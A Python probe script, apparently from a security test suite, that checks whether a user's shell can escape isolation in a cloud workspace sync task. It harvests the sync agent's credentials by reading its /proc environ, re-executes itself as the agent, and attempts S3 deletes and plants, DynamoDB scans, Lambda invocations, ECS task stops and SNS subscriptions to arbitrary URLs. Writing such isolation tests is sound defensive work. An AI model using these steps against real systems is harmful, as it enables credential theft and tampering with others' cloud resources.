"""An attacker's tool, run by the user inside a terminal task: one AWS call, its outcome on one line.

The user's shell has no AWS credentials in its environment, but it runs as the same uid as the sync agent,
so it can read the agent's (as on AWS it can ask the task's credentials endpoint). The probe starts under
the image's plain python3, takes the agent's environment and interpreter (which has boto3), and re-runs
itself with them. It prints `allowed` or `refused <HTTP status> <error code>`.

    python3 escape_probe.py s3-list vended BUCKET PREFIX      (vended: the session's S3 credentials)
    python3 escape_probe.py s3-get|s3-delete|s3-put vended|task|forged BUCKET KEY
    python3 escape_probe.py dynamodb-scan TABLE | lambda-invoke FUNCTION | ecs-stop CLUSTER TASK
    python3 escape_probe.py sns-subscribe TOPIC_ARN URL | moto-reset
"""

from __future__ import annotations

import os
import shutil
import sys
from pathlib import Path

_REEXECUTED = "_ESCAPE_PROBE_AS_AGENT"


def _agent() -> tuple[str, dict[str, str]]:
    for entry in Path("/proc").iterdir():
        try:
            command = (entry / "cmdline").read_bytes() if entry.name.isdigit() else b""
            if b"workspace_sync" in command:
                raw = (entry / "environ").read_bytes()
                env = dict(item.split("=", 1) for item in raw.decode().split("\0") if "=" in item)
                # its argv[0] on its PATH: the virtualenv's python (/proc/PID/exe is the base interpreter)
                interpreter = shutil.which(command.split(b"\0")[0].decode(), path=env.get("PATH"))
                if interpreter:
                    return interpreter, env
        except OSError:
            continue
    raise SystemExit("no sync agent found in this task")


def _call(command: str, args: list[str]) -> None:
    import json
    import urllib.error
    import urllib.request

    import boto3
    from botocore.config import Config
    from botocore.exceptions import ClientError
    from workspace_sync.credentials import vended_session

    config = Config(retries={"max_attempts": 1})

    def client(service: str, who: str = "task") -> object:
        if who == "vended":
            session, _ = vended_session(os.environ["WORKSPACE_ACCESS_FUNCTION"])
        elif who == "forged":
            session = boto3.Session(
                aws_access_key_id="ASIAFORGEDFORGED0001", aws_secret_access_key="forged",
                aws_session_token="forged", region_name=os.environ["AWS_REGION"],
            )  # fmt: skip
        else:
            session = boto3.Session()
        return session.client(service, config=config)

    calls = {
        "s3-list": lambda: client("s3", args[0]).list_objects_v2(Bucket=args[1], Prefix=args[2]),
        "s3-get": lambda: client("s3", args[0]).get_object(Bucket=args[1], Key=args[2]),
        "s3-delete": lambda: client("s3", args[0]).delete_object(Bucket=args[1], Key=args[2]),
        "s3-put": lambda: client("s3", args[0]).put_object(Bucket=args[1], Key=args[2], Body=b"planted"),
        "dynamodb-scan": lambda: client("dynamodb").scan(TableName=args[0]),
        "lambda-invoke": lambda: client("lambda").invoke(
            FunctionName=args[0], Payload=json.dumps({}).encode()
        ),
        "ecs-stop": lambda: client("ecs").stop_task(cluster=args[0], task=args[1], reason="taken over"),
        "sns-subscribe": lambda: client("sns").subscribe(TopicArn=args[0], Protocol="http", Endpoint=args[1]),
    }
    try:
        if command == "moto-reset":
            urllib.request.urlopen(
                urllib.request.Request(f"{os.environ['AWS_ENDPOINT_URL']}/moto-api/reset", method="POST"),
                timeout=10,
            )
        else:
            calls[command]()
    except ClientError as error:
        status = error.response["ResponseMetadata"]["HTTPStatusCode"]
        print(f"refused {status} {error.response['Error']['Code']}")
    except urllib.error.HTTPError as error:
        print(f"refused {error.code} {error.reason.replace(' ', '')}")
    else:
        print("allowed")


def main() -> None:
    if os.environ.get(_REEXECUTED):
        _call(sys.argv[1], sys.argv[2:])
        return
    interpreter, env = _agent()
    os.execve(interpreter, [interpreter, __file__, *sys.argv[1:]], {**env, _REEXECUTED: "1"})


if __name__ == "__main__":
    main()
